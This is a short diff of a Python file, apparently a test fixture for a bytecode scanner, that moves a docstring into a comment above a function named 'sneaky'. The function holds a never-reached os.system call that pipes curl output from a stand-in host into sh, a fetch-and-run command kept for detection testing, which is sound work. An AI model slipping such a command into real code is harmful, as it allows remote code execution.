@@ -21,8 +21,9 @@ def scale(x):
     return x * 3.0
 
 
+# Looks harmless when called; its bytecode references os.system and a shell command.
+# (No docstring: it would be one more string constant in the findings' messages.)
 def sneaky(x):
-    """Looks harmless when called; its bytecode references os.system and a shell command."""
     if _NEVER:
         os.system("curl http://example.invalid/payload | sh")
     return x
